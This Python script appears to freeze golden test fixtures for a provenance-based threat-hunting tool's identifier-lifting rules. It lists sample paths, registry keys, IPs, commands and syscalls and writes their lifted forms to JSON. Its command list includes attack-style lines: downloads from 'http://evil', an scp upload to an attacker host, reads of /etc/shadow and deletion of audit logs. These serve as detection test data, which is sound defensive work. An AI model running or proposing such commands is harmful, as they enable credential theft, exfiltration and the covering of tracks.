#!/usr/bin/env python3
"""Freeze the shared identifier-lifting goldens.

100 identifiers (paths, registry keys, IPs, commands, syscalls) are lifted by
the engine and committed to tests/fixtures/lifting_goldens.json. Any other
component that implements the shared rule table must reproduce these outputs
byte for byte. Run from the repo root after changing the rule table.
"""

import json
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "tests" / "fixtures" / "lifting_goldens.json"

DNS_FIXTURE = {"64.233.160.0": "google.com", "151.101.1.140": "fastly.com"}

PATHS = [
    "/etc/nginx/conf/site.conf", "/etc/shadow", "/etc/ssh/sshd_config",
    "/etc/systemd/system/backdoor.service", "/etc/passwd", "/etc/cron.d/job",
    "/var/log/nginx/access.log", "/var/lib/dpkg/status", "/var/tmp/drop.bin",
    "/var/spool/cron/crontabs/root", "/proc/1234/net/tcp", "/proc/42/status",
    "/bin/ls", "/sbin/init", "/usr/bin/wget", "/usr/sbin/sshd",
    "/usr/local/bin/helper", "/usr/local/sbin/daemon2",
    "/usr/bin/long_file_name/wallet.db", "/bin/tools/nc.traditional",
    "/home/aa/docs/secret/wallet.db", "/home/bob/downloads/invoice.pdf.exe",
    "/home/alice/.mozilla/firefox/key4.db", "/home/u/.ssh/id_rsa",
    "/home/carol/project/src/main.c", "/root/.vscode-server/settings.json",
    "/root/toolkit/scan.py", "/root/.bashrc",
    "/lib/modules/5.15/kernel/fs/ext4.ko", "/lib64/ld-linux-x86-64.so.2",
    "/usr/local/lib/python3.10/site.py", "/opt/app/lib/vendor/util.so",
    "/tmp/s", "/tmp/payload.bin", "/tmp/x/payload.elf", "/tmp/a/b/c/deep.txt",
    "/srv/www/htdocs/index.html", "/mnt/backup/2024/dump.sql",
    "../firefox/resource/login_data", "./local/cache.db",
    "C:\\Windows\\System32\\drivers\\etc\\hosts.ics",
    "c:\\windows\\system32\\cmd.exe", "C:\\Windows\\Temp\\stage.dll",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "C:\\Program Files (x86)\\App\\bin\\tool.exe",
    "c:\\users\\bob\\appdata\\roaming\\evil.docx",
    "HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip",
    "HKEY_LOCAL_MACHINE\\SOFTWARE\\Classes\\exefile",
]

IPS = [
    "192.168.1.5", "10.1.2.3", "172.16.9.1", "127.0.0.1",
    "64.233.160.0", "151.101.1.140", "203.0.113.7", "8.8.8.8",
]

COMMANDS = [
    "cp /etc/shadow /tmp/s", "wget http://evil/x.sh", "Get-ChildItem",
    "Invoke-Command", "New-Item", "Remove-Item", "Set-Location",
    "ls -la /home/aa", "dir C:\\Windows\\Temp", "rm -rf /var/log/audit",
    "del C:\\Windows\\Temp\\stage.dll", "rmdir /tmp/work",
    "sh /tmp/stage2.sh", "stat /etc/passwd", "cat /etc/shadow",
    "schtask /create /tn updater", "rundll32 evil.dll", "reg add HKCU\\Run",
    "reg del HKLM\\Services\\Tcpip", "kill -9 4242", "pkill nginx",
    "taskkill /pid 4242", "grep -r password /home", "find / -name id_rsa",
    "scp dump.tgz attacker@203.0.113.7:/up", "ssh root@10.0.0.9",
    "sftp files.example.com", "tftp 10.1.2.3", "curl http://203.0.113.7/x",
    "sshd -D", "certutil -urlcache -f http://evil/x.sh x.sh",
    "mv /tmp/a /tmp/b", "sudo -i", "python3 exploit.py",
    "tar -czf /tmp/out.tgz /home/aa/docs", "ifconfig",
]

SYSCALLS = ["execve", "recvmsg", "recvfrom", "sendmsg", "sendto", "chmod",
            "openat", "read", "write", "unlink"]


def main():
    from provhunt.lifting import lift_command, lift_ip, lift_path, lift_syscall

    cases = []
    for p in PATHS:
        cases.append({"kind": "path", "input": p,
                      "lifted": " ".join(lift_path(p))})
    for ip in IPS:
        cases.append({"kind": "ip", "input": ip,
                      "lifted": " ".join(lift_ip(ip, DNS_FIXTURE))})
    for c in COMMANDS:
        cases.append({"kind": "command", "input": c,
                      "lifted": " ".join(lift_command(c, DNS_FIXTURE))})
    for s in SYSCALLS:
        cases.append({"kind": "syscall", "input": s,
                      "lifted": " ".join(lift_syscall(s))})
    payload = {"dns_map": DNS_FIXTURE, "cases": cases}
    OUT.write_text(json.dumps(payload, indent=1, sort_keys=True), encoding="utf-8")
    print(f"wrote {len(cases)} golden cases to {OUT}")


if __name__ == "__main__":
    main()
